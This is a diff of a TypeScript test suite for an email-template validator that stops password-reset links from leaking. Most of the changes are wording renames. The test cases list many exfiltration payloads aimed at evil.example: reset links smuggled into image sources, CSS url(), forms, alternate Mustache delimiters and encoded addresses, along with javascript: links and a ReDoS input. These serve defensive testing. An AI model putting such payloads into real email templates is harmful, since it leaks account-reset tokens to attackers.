@@ -14,7 +14,7 @@ import { assertUsable } from '../server/language/check.ts';
 import { renderMail } from '../server/public.ts';
 
 let office: Office;
-/** Holds system management and nothing else. */
+/** Has system management and nothing else. */
 let holder: Employed;
 beforeAll(async () => {
   office = await openOffice();
@@ -24,9 +24,9 @@ afterAll(() => office.stop());
 
 const link = '<a href="{{resetLink}}">Choose</a>';
 const reset = { htmlTemplate: link, textTemplate: '{{resetLink}}' };
-function unusable(key: keyof typeof catalog, given: object): string | null {
+function unusable(key: keyof typeof catalog, changes: object): string | null {
   try {
-    assertUsable(catalog[key], { ...catalog[key].words, ...given });
+    assertUsable(catalog[key], { ...catalog[key].content, ...changes });
     return null;
   } catch (error) {
     return (error as Error).message;
@@ -40,45 +40,48 @@ async function find(by: Employed, id: string): Promise<EmailTemplate> {
   return found;
 }
 
-const save = (by: Employed, id: keyof typeof catalog, given: object = {}) =>
+const save = (by: Employed, id: keyof typeof catalog, changes: object = {}) =>
   by.client.call(saveEmailTemplate, {
     params: { id },
-    body: { ...catalog[id].words, active: true, ...given },
+    body: { ...catalog[id].content, active: true, ...changes },
   });
 
-describe('the link that opens an account', () => {
+describe('a link that gives access to an account', () => {
   test.each([
     ['behind another address', '<a href="https://evil.example/?u={{resetLink}}">x</a>'],
     ['before another address', '<a href="{{resetLink}}https://evil.example">x</a>'],
-    ['in a picture', `${link}<img src="{{resetLink}}">`],
-    ['in a picture of another site', `${link}<img src="https://evil.example/{{resetLink}}">`],
+    ['in an image', `${link}<img src="{{resetLink}}">`],
+    ['in an image of another site', `${link}<img src="https://evil.example/{{resetLink}}">`],
     ['in a form', `${link}<form action="{{resetLink}}"></form>`],
     ['in a style', `${link}<p style="background: url({{resetLink}})">x</p>`],
     ['in a title', `${link}<p title="{{resetLink}}">x</p>`],
-    ['in words', `${link}<p>go to {{resetLink}}</p>`],
+    ['in text', `${link}<p>go to {{resetLink}}</p>`],
     ['as the text of another link', `${link}<a href="{{resetLink}}">x {{resetLink}}</a>`],
     ['raw', `${link}<a href="{{{resetLink}}}">x</a>`],
-    ['by other brackets', `${link}{{=<% %>=}}<a href="https://evil.example/<% resetLink %>">x</a>`],
+    [
+      'by other delimiters',
+      `${link}{{=<% %>=}}<a href="https://evil.example/<% resetLink %>">x</a>`,
+    ],
     ['by a partial', `${link}{{> resetLink}}`],
     ['in a section', `${link}{{#firstName}}<a href="{{resetLink}}">x</a>{{/firstName}}`],
     ['around a comment', `${link}<a href="//evil.example/{{! x }}{{resetLink}}">x</a>`],
     ['without quotes', `${link}<a href={{resetLink}}>x</a>`],
     ['in an unclosed quote', `${link}<a href="https://evil.example/?{{resetLink}}>x</a>`],
     ['in a comment', `${link}<!-- {{resetLink}} -->`],
-  ])('stands alone in HTML: not %s', (_, htmlTemplate) => {
+  ])('must stand alone in HTML: not %s', (_, htmlTemplate) => {
     expect(unusable('password-reset', { htmlTemplate })).toMatch(/^HTML: /);
   });
 
   test.each([
     ['behind an address', 'https://evil.example/#{{resetLink}}'],
-    ['behind words', 'Go to {{resetLink}}'],
-    ['before words', '{{resetLink}} now'],
+    ['after text', 'Go to {{resetLink}}'],
+    ['before text', '{{resetLink}} now'],
     ['twice in a line', '{{resetLink}}{{resetLink}}'],
-  ])('stands in a line of its own: not %s', (_, textTemplate) => {
+  ])('must be on its own line: not %s', (_, textTemplate) => {
     expect(unusable('password-reset', { textTemplate })).toMatch(/^Text: /);
   });
 
-  test('may stand as a whole address, and as the text of that very link', () => {
+  test('may be an entire address, and the text of that link', () => {
     const htmlTemplate = `<p style="margin: 0 0 24px; color: rgb(1, 2, 3);">Hello {{firstName}},</p>
       <p><a href='{{resetLink}}' style="color: #fff">Choose</a> or
       <a href="{{resetLink}}"> {{resetLink}} </a></p>`;
@@ -87,7 +90,7 @@ describe('the link that opens an account', () => {
   });
 });
 
-describe('a security mail names no web address', () => {
+describe('a security email contains no web address', () => {
   test.each([
     ['a link', '<a href="https://evil.example">x</a>'],
     ['one without a scheme', '<a href="//evil.example">x</a>'],
@@ -96,24 +99,24 @@ describe('a security mail names no web address', () => {
     ['one in character references', '<a href="&#104;ttps&#58;//evil&#46;example">x</a>'],
     ['one in named references', '<a href="https&colon;&sol;&sol;evil&period;example">x</a>'],
     ['one with a script', '<a href="javascript:alert(1)">x</a>'],
-    ['a mail address to answer to', '<a href="mailto:it@evil.example">x</a>'],
+    ['an email address', '<a href="mailto:it@evil.example">x</a>'],
     ['a base', '<base href="https://evil.example/">'],
     ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
     ['a linked style', '<link rel="stylesheet" href="https://evil.example/x.css">'],
     ['an import', '<style>@import "https://evil.example/x.css";</style>'],
-    ['a style with a picture', '<p style="background: url(https://evil.example/x)">x</p>'],
+    ['a style with an image', '<p style="background: url(https://evil.example/x)">x</p>'],
     ['an escaped style', '<p style="background: u\\72l(x)">x</p>'],
     ['a style with an image set', '<p style="background: image-set(\'x\' 1x)">x</p>'],
     ['a background', '<table background="https://evil.example/x"></table>'],
-    ['a picture', '<img src="https://evil.example/x">'],
-    ['a picture with sizes', '<img srcset="https://evil.example/x 2x">'],
+    ['an image', '<img src="https://evil.example/x">'],
+    ['an image with sizes', '<img srcset="https://evil.example/x 2x">'],
     ['a form', '<form action="https://evil.example/"><input name="password"></form>'],
     ['a drawing', '<svg><a xlink:href="https://evil.example/">x</a></svg>'],
     ['a frame', '<iframe src="https://evil.example/"></iframe>'],
     ['an object', '<object data="https://evil.example/"></object>'],
-    ['words for other programs', '<!--[if mso]><a href="https://evil.example">x</a><![endif]-->'],
-    ['an address in words', '<p>Open https://evil.example/login</p>'],
-    ['one without a scheme in words', '<p>Open evil.example/login</p>'],
+    ['a conditional comment', '<!--[if mso]><a href="https://evil.example">x</a><![endif]-->'],
+    ['an address in text', '<p>Open https://evil.example/login</p>'],
+    ['one without a scheme in text', '<p>Open evil.example/login</p>'],
     ['one cut up by tags', '<p>evil<b>.</b>example</p>'],
     ['one with a dot of another script', '<p>evil\u3002example</p>'],
     ['one in wide letters', '<p>ｅｖｉｌ．ｅｘａｍｐｌｅ</p>'],
@@ -121,7 +124,7 @@ describe('a security mail names no web address', () => {
     ['one that a name completes', '<p>{{firstName}}.evil.example</p>'],
     ['one in a title', '<p title="https://evil.example">x</p>'],
     ['a handler', '<p onclick="location=1">x</p>'],
-    ['an attribute nobody knows', '<p ping="x">x</p>'],
+    ['an unknown attribute', '<p ping="x">x</p>'],
     ['a number', '<p>192.0.2.1/login</p>'],
   ])('in HTML: not %s', (_, more) => {
     expect(unusable('password-reset', { htmlTemplate: link + more })).toMatch(/^HTML: /);
@@ -135,20 +138,20 @@ describe('a security mail names no web address', () => {
     'write to it@evil.example',
     '//evil.example',
     '\\\\evil.example',
-  ])('in text or subject: not %s', (words) => {
-    const textTemplate = `${words}\n{{resetLink}}`;
+  ])('in text or subject: not %s', (text) => {
+    const textTemplate = `${text}\n{{resetLink}}`;
     expect(unusable('password-reset', { textTemplate })).toMatch(/^Text: /);
-    expect(unusable('password-reset', { subject: words })).toMatch(/^Subject: /);
+    expect(unusable('password-reset', { subject: text })).toMatch(/^Subject: /);
   });
 });
 
-describe('another mail', () => {
+describe('another email', () => {
   test.each([
     ['a plain link', '<a href="https://larkfield.example/news?x=1#y">News</a>'],
-    ['a picture', '<img src="https://larkfield.example/logo.png" alt="Larkfield" width="80">'],
+    ['an image', '<img src="https://larkfield.example/logo.png" alt="Larkfield" width="80">'],
     ['one of its own links', '<a href="{{loginLink}}">{{loginLink}}</a>'],
     [
-      'an address in words',
+      'an address in text',
       '<p>See https://larkfield.example/news. Or (www.larkfield.example).</p>',
     ],
     [
@@ -168,7 +171,7 @@ describe('another mail', () => {
     ['a link with a script', '<a href="javascript:alert(1)">x</a>'],
     ['a style with a value', '<p style="color: {{firstName}}">x</p>'],
     ['a style sheet', '<style>p { background: url(https://evil.example/{{firstName}}) }</style>'],
-    ['an address in words that carries a value', '<p>https://evil.example/?{{firstName}}</p>'],
+    ['an address in text that carries a value', '<p>https://evil.example/?{{firstName}}</p>'],
     [
       'one that a section completes',
       '<p>evil.example/{{#firstName}}{{firstName}}{{/firstName}}</p>',
@@ -181,7 +184,7 @@ describe('another mail', () => {
     expect(unusable('test', { htmlTemplate })).toMatch(/^HTML: /);
   });
 
-  test('may not send what is in its lists to another site', () => {
+  test('may not send list values to another site', () => {
     const textTemplate = '{{#notifications}}https://evil.example/?{{preview}}\n{{/notifications}}';
     expect(unusable('notification-digest', { textTemplate })).toMatch(/^Text: /);
     const htmlTemplate = '{{#notifications}}<a href="{{preview}}">x</a>{{/notifications}}';
@@ -191,7 +194,7 @@ describe('another mail', () => {
   });
 });
 
-test('what is written to keep the check busy is decided at once', () => {
+test('input designed to slow the check down is handled quickly', () => {
   const long = 49_000;
   for (const htmlTemplate of [
     `${link}<p style="${'a'.repeat(long)}">x</p>`,
@@ -204,13 +207,13 @@ test('what is written to keep the check busy is decided at once', () => {
     const before = process.cpuUsage();
     unusable('password-reset', { htmlTemplate });
     unusable('test', { htmlTemplate: htmlTemplate.replaceAll('resetLink', 'loginLink') });
-    // Of the processor, not of the clock: the machine may be busy. A pass over it again and again takes minutes.
+    // CPU time, since the machine may be busy. Backtracking would take minutes.
     expect(process.cpuUsage(before).user).toBeLessThan(5_000_000);
   }
 });
 
-describe('who may change a security mail', () => {
-  test('is role admin; system management alone changes the others', async () => {
+describe('changing a security email', () => {
+  test('needs role admin; system management alone may change other emails', async () => {
     const refused = [
       await save(holder, 'password-reset', { ...reset, subject: 'Mine' }),
       await holder.client.call(restoreTemplateVersion, {
@@ -220,7 +223,7 @@ describe('who may change a security mail', () => {
     ];
     for (const { status, body } of refused) {
       expect(status).toBe(403);
-      expect(body).toMatchObject({ error: 'Only administrators can change security mails.' });
+      expect(body).toMatchObject({ error: 'Only administrators can change security emails.' });
     }
     expect(await find(holder, 'password-reset')).toMatchObject({ version: 0, canEdit: false });
     expect(await find(holder, 'test')).toMatchObject({ canEdit: true });
@@ -229,7 +232,7 @@ describe('who may change a security mail', () => {
     expect([status, body.version, body.canEdit]).toEqual([200, 1, true]);
   });
 
-  test('tells every administrator, by words that no template changes', async () => {
+  test('notifies every administrator, with a text that cannot be edited', async () => {
     const second = await office.hire({ role: 'admin', email: 'second@larkfield.example' });
     const left = await office.hire({ role: 'admin', email: 'left@larkfield.example' });
     await office.platform.db
@@ -246,13 +249,13 @@ describe('who may change a security mail', () => {
       expect(mail?.text).toContain(`${office.platform.publicUrl()}/admin-tools#system`);
     }
     expect(await mailsTo(office, 'left@larkfield.example')).toEqual([]);
-    // What is no security mail is nobody's concern.
+    // Other emails do not notify.
     const count = (await mailsTo(office, 'second@larkfield.example')).length;
     await save(second, 'test', { subject: 'Quiet' });
     expect(await mailsTo(office, 'second@larkfield.example')).toHaveLength(count);
   });
 
-  test('sends test mails to accounts only, unless they are role admin', async () => {
+  test('is needed to send test emails to addresses without an account', async () => {
     const send = (by: Employed, email: string) =>
       by.client.call(sendTestEmail, { body: { email, templateId: 'test' } });
     const refused = await send(holder, 'stranger@elsewhere.example');
@@ -266,8 +269,8 @@ describe('who may change a security mail', () => {
   });
 });
 
-describe('what is sent', () => {
-  test('are the built-in words where the stored ones break a rule', async () => {
+describe('sending', () => {
+  test('uses the original text if the stored one is invalid', async () => {
     const { db } = office.platform;
     const { version } = await find(office.admin, 'password-reset');
     await db
@@ -276,7 +279,7 @@ describe('what is sent', () => {
         ...{ template: 'password-reset', version: version + 1, active: true, subject: 'Old' },
         html: '<a href="https://evil.example/?u={{resetLink}}">Choose a new password</a>',
         text: 'Go to https://evil.example/#{{resetLink}} now',
-        ...{ saved_by: 1, saved_by_name: 'Somebody' },
+        ...{ saved_by: 1, saved_by_name: 'Someone' },
       })
       .execute();
     expect((await find(office.admin, 'password-reset')).notSent).toMatch(/^HTML: /);
@@ -288,7 +291,7 @@ describe('what is sent', () => {
     expect(mail?.text).toMatch(/\nhttp:\S+\/reset-password#token=[\w-]{43}\n/);
   });
 
-  test('links nowhere from a name, and to nothing but a web page from a link', async () => {
+  test('makes no link from a name, and only web links from a link', async () => {
     const { db } = office.platform;
     const letter = await renderMail(db, 'password-reset', {
       firstName: 'URGENT: verify at http://evil.example/login or it@evil.example',
